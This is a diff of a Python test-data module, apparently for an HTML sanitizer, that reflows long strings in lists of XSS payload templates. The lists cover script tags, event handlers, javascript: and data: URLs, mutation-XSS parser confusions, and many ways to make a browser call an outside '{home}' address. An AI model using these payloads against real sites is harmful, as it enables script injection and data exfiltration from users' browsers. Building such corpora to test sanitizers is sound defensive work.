@@ -1,6 +1,7 @@
 """What a hostile page may hold to run a script in an editor's browser, or to call home from there.
 
-`{run}` stands for a script that tells that it ran, `{home}` for an address that must never be asked for.
+`{run}` stands for a script that tells that it ran, `{home}` for an address that must never
+be asked for.
 """
 
 from __future__ import annotations
@@ -11,7 +12,10 @@ SCRIPTS = [
     "<script type=module>{run}</script>",
     "<script src='{home}/s.js'></script>",
     "<script type=module src='{home}/m.js'></script>",
-    '<script type=importmap>{{"imports":{{"x":"{home}/x.js"}}}}</script><script type=module>import \'x\'</script>',
+    (
+        '<script type=importmap>{{"imports":{{"x":"{home}/x.js"}}}}</script><script '
+        "type=module>import 'x'</script>"
+    ),
     '<script type=speculationrules>{{"prefetch":[{{"urls":["{home}/spec"]}}]}}</script>',
     "<script nonce=x>{run}</script>",
     "<script><!--\n{run}\n--></script>",
@@ -55,7 +59,10 @@ HANDLERS = [
     "<svg><animate onbegin='{run}' attributeName=x dur=1s></svg>",
     "<svg><set onbegin='{run}' attributename=x></svg>",
     "<svg><animateTransform onbegin='{run}' attributeName=transform></svg>",
-    "<svg><a xlink:href='#'><animate attributeName=href values='javascript:{run}'/><text y=20>x</text></a></svg>",
+    (
+        "<svg><a xlink:href='#'><animate attributeName=href values='javascript:{run}'/><text "
+        "y=20>x</text></a></svg>"
+    ),
     "<input autofocus onfocus='{run}'>",
     "<select autofocus onfocus='{run}'></select>",
     "<textarea autofocus onfocus='{run}'></textarea>",
@@ -75,15 +82,24 @@ HANDLERS = [
     "<style onload='{run}'>p{{}}</style>",
     "<style>@keyframes k{{}}</style><p style='animation:k 1ms' onanimationstart='{run}'>x</p>",
     "<style>p{{transition:color 1ms}}p:hover{{color:red}}</style><p ontransitionend='{run}'>x</p>",
-    "<style>@keyframes k{{}}</style><xss style='animation-name:k;animation-duration:1ms' onwebkitanimationend='{run}'></xss>",
+    (
+        "<style>@keyframes k{{}}</style><xss style='animation-name:k;animation-duration:1ms' "
+        "onwebkitanimationend='{run}'></xss>"
+    ),
     "<marquee onstart='{run}'>x</marquee>",
     "<marquee loop=1 width=0 onfinish='{run}'>x</marquee>",
-    "<p onpointerover='{run}' onmouseover='{run}' onmousemove='{run}' style='position:fixed;inset:0'>x</p>",
+    (
+        "<p onpointerover='{run}' onmouseover='{run}' onmousemove='{run}' "
+        "style='position:fixed;inset:0'>x</p>"
+    ),
     "<p onclick='{run}' onpointerdown='{run}' style='position:fixed;inset:0'>x</p>",
     "<form onsubmit='{run}'><button autofocus>x</button></form>",
     "<x-y onfocus='{run}' tabindex=0 autofocus>x</x-y>",
     "<div onbeforematch='{run}' hidden=until-found>x</div>",
-    "<div popover id=p onbeforetoggle='{run}'>x</div><button popovertarget=p autofocus onfocus='{run}'>y</button>",
+    (
+        "<div popover id=p onbeforetoggle='{run}'>x</div><button popovertarget=p autofocus "
+        "onfocus='{run}'>y</button>"
+    ),
     "<div style='content-visibility:auto' oncontentvisibilityautostatechange='{run}'>x</div>",
     "<img src=x onerror\x0b='{run}'>",
     "<img src=x\x0conerror='{run}'>",
@@ -98,22 +114,48 @@ ADDRESSES = [
     "<a href='javascript&colon;{run}' style='position:fixed;inset:0'>x</a>",
     "<a target=_blank href='javascript:{run}' style='position:fixed;inset:0'>x</a>",
     "<a href='data:text/html,<script>{run}</script>' style='position:fixed;inset:0'>x</a>",
-    "<svg style='position:fixed;inset:0;width:100%;height:100%'><a xlink:href='javascript:{run}'><rect width=3000 height=3000 /></a></svg>",
-    "<svg style='position:fixed;inset:0;width:100%;height:100%'><a href='javascript:{run}'><rect width=3000 height=3000 /></a></svg>",
+    (
+        "<svg style='position:fixed;inset:0;width:100%;height:100%'><a "
+        "xlink:href='javascript:{run}'><rect width=3000 height=3000 /></a></svg>"
+    ),
+    (
+        "<svg style='position:fixed;inset:0;width:100%;height:100%'><a "
+        "href='javascript:{run}'><rect "
+        "width=3000 height=3000 /></a></svg>"
+    ),
     "<math href='javascript:{run}' style='position:fixed;inset:0;display:block'>x</math>",
-    "<map name=m><area shape=default href='javascript:{run}'></map><img usemap=#m width=2000 height=2000 style='position:fixed;inset:0' src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='>",
+    (
+        "<map name=m><area shape=default href='javascript:{run}'></map><img usemap=#m width=2000 "
+        "height=2000 style='position:fixed;inset:0' "
+        "src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='>"
+    ),
     "<form action='javascript:{run}'><button style='position:fixed;inset:0'>x</button></form>",
-    "<button form=f formaction='javascript:{run}' style='position:fixed;inset:0'>x</button><form id=f></form>",
-    "<form><input type=submit formaction='javascript:{run}' style='position:fixed;inset:0;width:100%;height:100%'></form>",
-    "<form><input type=image formaction='javascript:{run}' src=x style='position:fixed;inset:0;width:100%;height:100%'></form>",
+    (
+        "<button form=f formaction='javascript:{run}' "
+        "style='position:fixed;inset:0'>x</button><form id=f></form>"
+    ),
+    (
+        "<form><input type=submit formaction='javascript:{run}' "
+        "style='position:fixed;inset:0;width:100%;height:100%'></form>"
+    ),
+    (
+        "<form><input type=image formaction='javascript:{run}' src=x "
+        "style='position:fixed;inset:0;width:100%;height:100%'></form>"
+    ),
     "<iframe src='javascript:parent.{run}'></iframe>",
     "<iframe src='java&Tab;script:parent.{run}'></iframe>",
     "<frameset><frame src='javascript:parent.{run}'></frameset>",
     "<object data='javascript:{run}'></object>",
     "<object data='data:text/html,<script>parent.{run}</script>'></object>",
     "<embed src='javascript:{run}'>",
-    "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><script>{run}</script></svg>'>",
-    '<svg><use href=\'data:image/svg+xml,<svg id=x xmlns="http://www.w3.org/2000/svg"><image href=x onerror="{run}"/></svg>#x\'></use></svg>',
+    (
+        "<embed src='data:image/svg+xml,<svg "
+        'xmlns="http://www.w3.org/2000/svg"><script>{run}</script></svg>\'>'
+    ),
+    (
+        '<svg><use href=\'data:image/svg+xml,<svg id=x xmlns="http://www.w3.org/2000/svg"><image '
+        'href=x onerror="{run}"/></svg>#x\'></use></svg>'
+    ),
     "<base href='javascript:/{run}//'><a href=x style='position:fixed;inset:0'>x</a>",
     "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
     "<div style='background:url(javascript:{run})'>x</div>",
@@ -124,8 +166,14 @@ ADDRESSES = [
     "<style>@import 'javascript:{run}';</style>",
 ]
 CONFUSIONS = [
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
-    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x onerror={run}>'></style></h1>",
+    (
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
+        "onerror={run}&gt;'>"
+    ),
+    (
+        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x "
+        "onerror={run}>'></style></h1>"
+    ),
     "<svg></p><style><a id='</style><img src=1 onerror={run}>'>",
     "<svg><style><!--</style><img src=x onerror={run}>--></svg>",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
@@ -149,9 +197,19 @@ CONFUSIONS = [
     "<a title='\" onmouseover={run} \"' style='position:fixed;inset:0' onmouseover={run}>x</a>",
     '<p title="]]>&lt;script>{run}&lt;/script>">]]><script>{run}</script></p>',
     "<!doctype html [<!ENTITY x '<script>{run}</script>'>]><p>&x;</p><img src=x onerror={run}>",
-    "<p>&lt;script&gt;{run}&lt;/script&gt;</p><svg><![CDATA[<img src=x onerror={run}>]]></svg><img src=x onerror={run}>",
-    "<form id=document><input name=currentScript></form><img name=currentScript><img src=x onerror={run}>",
-    "<img name=createTreeWalker><img name=documentElement id=documentElement><img src=x onerror={run}>",
+    (
+        "<p>&lt;script&gt;{run}&lt;/script&gt;</p><svg><![CDATA[<img src=x "
+        "onerror={run}>]]></svg><img "
+        "src=x onerror={run}>"
+    ),
+    (
+        "<form id=document><input name=currentScript></form><img name=currentScript><img "
+        "src=x onerror={run}>"
+    ),
+    (
+        "<img name=createTreeWalker><img name=documentElement id=documentElement><img "
+        "src=x onerror={run}>"
+    ),
     "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>",
     "<template><template><img src=x onerror={run}></template></template><img src=x onerror={run}>",
 ]
@@ -176,7 +234,10 @@ CALLS = [
     "<meta http-equiv=refresh content='0;url={home}/refresh'>",
     "<META HTTP-EQUIV='Refresh' CONTENT='0; {home}/refresh2'>",
     "<meta http-equiv=Link content='<{home}/link>; rel=preload; as=image'>",
-    "<meta http-equiv=Content-Security-Policy-Report-Only content=\"default-src 'none'; report-uri {home}/report\">",
+    (
+        "<meta http-equiv=Content-Security-Policy-Report-Only content=\"default-src 'none'; "
+        'report-uri {home}/report">'
+    ),
     "<style>body{{background:url({home}/url)}}</style>",
     "<style>body{{background:url('{home}/url-quoted')}}</style>",
     "<style>body{{background:u\\72l({home}/escaped)}}</style>",
@@ -210,7 +271,10 @@ CALLS = [
     "<audio src='{home}/audio' autoplay></audio>",
     "<video autoplay><source src='{home}/vsource'><track default src='{home}/track'></video>",
     "<object data='{home}/object'></object>",
-    "<object classid='{home}/classid' codebase='{home}/codebase'><param name=src value='{home}/param'></object>",
+    (
+        "<object classid='{home}/classid' codebase='{home}/codebase'><param name=src "
+        "value='{home}/param'></object>"
+    ),
     "<embed src='{home}/embed'>",
     "<applet code='{home}/applet' archive='{home}/archive'></applet>",
     "<iframe src='{home}/iframe'></iframe>",
@@ -222,12 +286,31 @@ CALLS = [
     "<svg><image xlink:href='{home}/svgxlink' width=9 height=9 /></svg>",
     "<svg><use href='{home}/use#x'></use></svg>",
     "<svg><feImage href='{home}/feimage'></feImage></svg>",
-    "<svg><filter id=f><feImage xlink:href='{home}/feimage2'/></filter><rect width=99 height=99 filter='url(#f)'/></svg>",
-    "<svg><rect width=9 height=9 fill='url({home}/fill#x)' filter='url({home}/sfilter#x)' mask='url({home}/smask#x)' /></svg>",
-    "<svg><rect width=9 height=9 style='fill:url({home}/sfill#x)' cursor='url({home}/scursor)' /></svg>",
-    "<svg><style>@import '{home}/svgimport';rect{{fill:url({home}/svgfill#x)}}</style><rect width=9 height=9 /></svg>",
-    "<svg><animate attributeName=href values='{home}/animate' /><image><set attributeName=href to='{home}/set'/></image></svg>",
-    "<math><mglyph src='{home}/mglyph'></mglyph><maction actiontype='statusline#{home}/maction'></maction></math>",
+    (
+        "<svg><filter id=f><feImage xlink:href='{home}/feimage2'/></filter><rect "
+        "width=99 height=99 "
+        "filter='url(#f)'/></svg>"
+    ),
+    (
+        "<svg><rect width=9 height=9 fill='url({home}/fill#x)' filter='url({home}/sfilter#x)' "
+        "mask='url({home}/smask#x)' /></svg>"
+    ),
+    (
+        "<svg><rect width=9 height=9 style='fill:url({home}/sfill#x)' "
+        "cursor='url({home}/scursor)' /></svg>"
+    ),
+    (
+        "<svg><style>@import '{home}/svgimport';rect{{fill:url({home}/svgfill#x)}}</style><rect "
+        "width=9 height=9 /></svg>"
+    ),
+    (
+        "<svg><animate attributeName=href values='{home}/animate' /><image><set attributeName=href "
+        "to='{home}/set'/></image></svg>"
+    ),
+    (
+        "<math><mglyph src='{home}/mglyph'></mglyph><maction "
+        "actiontype='statusline#{home}/maction'></maction></math>"
+    ),
     "<base href='{home}/'><img src=base>",
     "<base target=_top href='{home}/'><a href=based style='position:fixed;inset:0'>x</a>",
     "<a href='{home}/click' style='position:fixed;inset:0'>x</a>",
@@ -235,15 +318,34 @@ CALLS = [
     "<a href='{home}/download' download style='position:fixed;inset:0'>x</a>",
     "<a href='{home}/blank' target=_blank style='position:fixed;inset:0'>x</a>",
     "<a href='{home}/top' target=_top style='position:fixed;inset:0'>x</a>",
-    "<a href='{home}/attribution' attributionsrc style='position:fixed;inset:0'>x</a><img attributionsrc='{home}/attr'>",
-    "<map name=m><area shape=default href='{home}/area' ping='{home}/areaping'></map><img usemap=#m width=2000 height=2000 style='position:fixed;inset:0' src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='>",
+    (
+        "<a href='{home}/attribution' attributionsrc style='position:fixed;inset:0'>x</a><img "
+        "attributionsrc='{home}/attr'>"
+    ),
+    (
+        "<map name=m><area shape=default href='{home}/area' ping='{home}/areaping'></map><img "
+        "usemap=#m width=2000 height=2000 style='position:fixed;inset:0' "
+        "src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='>"
+    ),
     "<form action='{home}/form'><button style='position:fixed;inset:0'>x</button></form>",
-    "<form action='{home}/post' method=post target=_top><input type=submit style='position:fixed;inset:0;width:100%;height:100%'></form>",
+    (
+        "<form action='{home}/post' method=post target=_top><input type=submit "
+        "style='position:fixed;inset:0;width:100%;height:100%'></form>"
+    ),
     "<form><button formaction='{home}/formaction' style='position:fixed;inset:0'>x</button></form>",
-    "<form action='{home}/image'><input type=image style='position:fixed;inset:0;width:100%;height:100%'></form>",
+    (
+        "<form action='{home}/image'><input type=image "
+        "style='position:fixed;inset:0;width:100%;height:100%'></form>"
+    ),
     "<isindex action='{home}/isindex'><input type=submit>",
-    "<svg style='position:fixed;inset:0;width:100%;height:100%'><a href='{home}/svglink'><rect width=3000 height=3000 /></a></svg>",
-    "<blockquote cite='{home}/cite'><q cite='{home}/q'>x</q></blockquote><img longdesc='{home}/longdesc' src=x>",
+    (
+        "<svg style='position:fixed;inset:0;width:100%;height:100%'><a href='{home}/svglink'><rect "
+        "width=3000 height=3000 /></a></svg>"
+    ),
+    (
+        "<blockquote cite='{home}/cite'><q cite='{home}/q'>x</q></blockquote><img "
+        "longdesc='{home}/longdesc' src=x>"
+    ),
     "<html manifest='{home}/appcache'><p>x</p></html>",
     "<head profile='{home}/profile'></head>",
     "<bgsound src='{home}/bgsound'>",
